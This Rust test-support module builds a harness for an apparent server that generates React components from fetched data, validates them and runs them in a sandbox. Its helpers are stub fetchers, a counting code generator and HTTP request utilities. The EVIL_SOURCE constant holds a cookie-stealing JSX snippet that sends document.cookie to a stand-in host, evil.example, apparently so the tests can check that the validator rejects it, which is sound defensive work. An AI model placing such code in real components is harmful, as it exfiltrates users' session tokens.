#![allow(dead_code)]

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use axum::body::Body;
use axum::http::{Request, Response};
use axum::Router;
use glimpse_client::{
    CodeGenerator, DataFetcher, FetchedData, GenerationRequest, GeneratorClient,
};
use glimpse_error::PipelineError;
use glimpse_sandbox::boundary::ChannelBoundaryFactory;
use glimpse_sandbox::{Envelope, SandboxConfig, SandboxExecutor, SandboxMessage, Validator};
use glimpse_server::{
    build_router, AppState, CookieSettings, GlimpseMetrics, Pipeline, PipelineConfig,
    SessionCookies,
};
use glimpse_store::{CacheStore, ManualClock, MemoryBackend, SessionConfig, SessionRegistry};
use http_body_util::BodyExt;
use serde_json::{json, Value};
use tower::ServiceExt;

pub const GOOD_SOURCE: &str = "```jsx
import React from 'react';

export default function GeneratedComponent({ data }) {
  return (
    <ul>
      {data.map((row) => <li key={row.id}>{row.name}</li>)}
    </ul>
  );
}
```";

pub const EVIL_SOURCE: &str = "function GeneratedComponent({ data }) {
  const token = document.cookie;
  fetch('https://evil.example/steal?c=' + token);
  return <div>{data.length}</div>;
}";

pub struct StaticFetcher {
    pub data: Value,
    pub fail_status: Option<u16>,
    pub calls: AtomicUsize,
}

impl StaticFetcher {
    pub fn ok() -> Arc<Self> {
        Arc::new(Self {
            data: json!([{"id": 1, "name": "Ada"}, {"id": 2, "name": "Grace"}]),
            fail_status: None,
            calls: AtomicUsize::new(0),
        })
    }

    pub fn failing(status: u16) -> Arc<Self> {
        Arc::new(Self {
            data: Value::Null,
            fail_status: Some(status),
            calls: AtomicUsize::new(0),
        })
    }

    pub fn calls(&self) -> usize {
        self.calls.load(Ordering::SeqCst)
    }
}

#[async_trait::async_trait]
impl DataFetcher for StaticFetcher {
    async fn fetch(&self, url: &str) -> Result<FetchedData, PipelineError> {
        self.calls.fetch_add(1, Ordering::SeqCst);
        match self.fail_status {
            Some(status) => Err(PipelineError::FetchHttpError {
                url: url.to_string(),
                status,
            }),
            None => Ok(FetchedData {
                status: 200,
                json: self.data.clone(),
            }),
        }
    }
}

pub struct CountingGenerator {
    pub source: &'static str,
    pub calls: AtomicUsize,
    pub last_instructions: std::sync::Mutex<Option<String>>,
}

impl CountingGenerator {
    pub fn new(source: &'static str) -> Arc<Self> {
        Arc::new(Self {
            source,
            calls: AtomicUsize::new(0),
            last_instructions: std::sync::Mutex::new(None),
        })
    }

    pub fn calls(&self) -> usize {
        self.calls.load(Ordering::SeqCst)
    }
}

#[async_trait::async_trait]
impl CodeGenerator for CountingGenerator {
    fn name(&self) -> &str {
        "counting"
    }

    async fn generate(&self, request: &GenerationRequest) -> Result<String, PipelineError> {
        self.calls.fetch_add(1, Ordering::SeqCst);
        *self.last_instructions.lock().unwrap() = request.instructions.clone();
        Ok(self.source.to_string())
    }
}

pub struct Harness {
    pub fetcher: Arc<StaticFetcher>,
    pub generator: Arc<CountingGenerator>,
    pub clock: Arc<ManualClock>,
    pub pipeline: Arc<Pipeline>,
    pub state: AppState,
}

pub fn harness(fetcher: Arc<StaticFetcher>, generator: Arc<CountingGenerator>) -> Harness {
    harness_with(fetcher, generator, PipelineConfig::default())
}

pub fn harness_with(
    fetcher: Arc<StaticFetcher>,
    generator: Arc<CountingGenerator>,
    config: PipelineConfig,
) -> Harness {
    let clock = Arc::new(ManualClock::starting_now());
    let cache = Arc::new(CacheStore::new(Arc::new(MemoryBackend::new()), clock.clone()));
    let sessions = Arc::new(SessionRegistry::with_clock(
        SessionConfig::default(),
        clock.clone(),
    ));
    let metrics = Arc::new(GlimpseMetrics::new());
    let client = GeneratorClient::new(generator.clone(), Validator::default(), Duration::from_secs(30));
    let pipeline = Arc::new(Pipeline::new(
        sessions,
        cache,
        fetcher.clone(),
        client,
        metrics,
        config,
    ));

    let executor = Arc::new(SandboxExecutor::new(
        SandboxConfig::default(),
        Arc::new(ChannelBoundaryFactory::new(|mut peer| {
            tokio::spawn(async move {
                peer.send(&Envelope::new(peer.id().clone(), SandboxMessage::Ready));
                if let Some(request) = peer.recv().await {
                    if let SandboxMessage::ExecuteRequest { data, .. } = request.message {
                        peer.send(&Envelope::new(
                            peer.id().clone(),
                            SandboxMessage::ExecuteSuccess {
                                data: Some(json!({ "echo": data })),
                            },
                        ));
                    }
                }
            });
        })),
    ));

    let cookies = Arc::new(SessionCookies::new(CookieSettings {
        name: "glimpse_session".into(),
        secret: b"test-secret-that-is-long-enough".to_vec(),
        max_age: Duration::from_secs(3600),
        secure: false,
    }));

    let state = AppState::new(pipeline.clone(), executor, cookies);

    Harness {
        fetcher,
        generator,
        clock,
        pipeline,
        state,
    }
}

impl Harness {
    pub fn app(&self) -> Router {
        build_router(self.state.clone(), Duration::from_secs(30))
    }
}

pub async fn send(app: Router, request: Request<Body>) -> Response<Body> {
    app.oneshot(request).await.unwrap()
}

pub async fn get(app: Router, uri: &str) -> Response<Body> {
    send(app, Request::get(uri).body(Body::empty()).unwrap()).await
}

pub async fn post_json(app: Router, uri: &str, body: Value, cookie: Option<&str>) -> Response<Body> {
    let mut builder = Request::post(uri).header("content-type", "application/json");
    if let Some(cookie) = cookie {
        builder = builder.header("cookie", cookie);
    }
    send(app, builder.body(Body::from(body.to_string())).unwrap()).await
}

pub async fn body_json(response: Response<Body>) -> Value {
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    serde_json::from_slice(&bytes).unwrap()
}

pub async fn body_text(response: Response<Body>) -> String {
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    String::from_utf8(bytes.to_vec()).unwrap()
}

/// The `name=value` pair from a response's Set-Cookie header.
pub fn cookie_pair(response: &Response<Body>) -> Option<String> {
    response
        .headers()
        .get("set-cookie")
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.split(';').next())
        .map(str::to_string)
}
